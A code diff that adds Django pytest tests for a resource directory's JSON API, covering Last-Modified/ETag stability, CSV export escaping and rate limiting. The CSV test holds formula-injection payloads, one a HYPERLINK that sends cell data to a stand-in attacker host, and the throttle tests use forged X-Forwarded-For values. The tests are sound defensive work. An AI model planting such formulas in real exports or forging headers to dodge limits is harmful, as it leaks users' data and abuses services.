@@ -1,14 +1,16 @@
 """The JSON API: read-only, published only, filters shared with the pages."""
 
 import csv
+import datetime
 import io
 import json
 
 import pytest
-from django.core.cache import cache
+from django.core.cache import caches
 from django.urls import reverse
+from django.utils.http import http_date
 
-from resources.models import Organization, Region, SupportService
+from resources.models import ENTRY_MODELS, Organization, Region, SupportService
 from tests.builders import KINDS, SECRET_ADDRESS
 from tests.factories import (
     CountryFactory,
@@ -16,18 +18,20 @@ from tests.factories import (
     OrganizationFactory,
     RegionFactory,
     StrategyFactory,
+    SupportServiceFactory,
 )
 
 pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("world")]
 
+LONG_AGO = datetime.datetime(2020, 5, 1, tzinfo=datetime.UTC)
 TAXONOMY = ["regions", "focus-areas", "service-types", "populations", "sources"]
 
 
 @pytest.fixture(autouse=True)
 def fresh_throttle_counts():
-    cache.clear()
+    caches["limits"].clear()
     yield
-    cache.clear()
+    caches["limits"].clear()
 
 
 def drafts_by_kind(world):
@@ -189,6 +193,34 @@ class TestConditionalRequests:
             assert client.get(url, HTTP_IF_MODIFIED_SINCE=last_modified).status_code == 304
 
 
+class TestPublicValidators:
+    """Last-Modified says when the public data changed: never moved by a draft."""
+
+    @pytest.fixture
+    def dated(self, world):
+        for model in ENTRY_MODELS:
+            model.objects.update(modified=LONG_AGO)
+            model.history.update(history_date=LONG_AGO)
+
+    @pytest.mark.parametrize("kind", KINDS)
+    def test_editing_a_draft_changes_no_public_header(self, client, world, dated, kind):
+        before = client.get(list_url(kind))
+        draft = drafts_by_kind(world)[kind]
+        draft.summary = "A staff edit nobody outside can see."
+        draft.save()
+        after = client.get(list_url(kind))
+        assert after["Last-Modified"] == before["Last-Modified"] == http_date(LONG_AGO.timestamp())
+        assert after["ETag"] == before["ETag"]
+
+    @pytest.mark.parametrize("kind", KINDS)
+    def test_unpublishing_a_record_moves_it(self, client, world, dated, kind):
+        before = client.get(list_url(kind))["Last-Modified"]
+        record = ENTRY_MODELS[KINDS.index(kind)].objects.get(slug=world["published"][kind])
+        record.status = "archived"
+        record.save()
+        assert client.get(list_url(kind))["Last-Modified"] != before
+
+
 class TestExports:
     def test_csv_of_a_filtered_list(self, client, world):
         elsewhere = StrategyFactory(slug="elsewhere")
@@ -200,6 +232,26 @@ class TestExports:
         assert [row["slug"] for row in rows] == ["asean-plan", "thai-plan"]
         assert rows[0]["lead_organizations"] == "unodc"
         assert rows[1]["countries"] == "TH"
+
+    @pytest.mark.parametrize(
+        "name",
+        ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"],
+    )
+    def test_csv_cells_are_never_formulas(self, client, world, name):
+        OrganizationFactory(slug="hostile", name=name, website="")
+        response = client.get("/api/v1/organizations/export.csv")
+        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+        (row,) = [row for row in rows if row["slug"] == "hostile"]
+        assert row["name"] == f"'{name}"
+        ndjson = b"".join(client.get("/api/v1/organizations/export.ndjson").streaming_content).decode()
+        assert json.dumps(name)[1:-1] in ndjson  # the JSON formats keep the value as it is
+
+    def test_a_phone_number_stays_readable_in_csv(self, client, world):
+        SupportServiceFactory(slug="intl", phone="+66 2 123 4567", sms="1-800")
+        response = client.get("/api/v1/services/export.csv")
+        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+        (row,) = [row for row in rows if row["slug"] == "intl"]
+        assert (row["phone"], row["sms"]) == ("'+66 2 123 4567", "1-800")
 
     def test_ndjson_of_a_whole_kind(self, client, world):
         OrganizationFactory(slug="second")
@@ -220,6 +272,27 @@ def test_throttling_answers_429_with_retry_after(client, settings):
     assert statuses == [200, 200, 200, 429]
     response = client.get("/api/v1/focus-areas/")
     assert int(response["Retry-After"]) > 0
+
+
+def test_a_forged_forwarded_address_does_not_get_past_the_throttle(client, settings):
+    settings.API_ANON_RATE = "3/minute"
+    statuses = [
+        client.get("/api/v1/focus-areas/", HTTP_X_FORWARDED_FOR=f"198.51.100.{n}").status_code
+        for n in range(6)
+    ]
+    assert statuses == [200, 200, 200, 429, 429, 429]
+
+
+def test_behind_a_trusted_proxy_the_throttle_counts_each_client(client, settings):
+    settings.API_ANON_RATE = "1/minute"
+    settings.TRUSTED_PROXIES = 1
+
+    def get(forwarded):
+        return client.get("/api/v1/focus-areas/", REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR=forwarded)
+
+    assert get("203.0.113.1").status_code == 200
+    assert get("198.51.100.7, 203.0.113.1").status_code == 429  # the same client, forging
+    assert get("203.0.113.2").status_code == 200
 
 
 def test_cors_allows_get_from_any_origin(client, world):
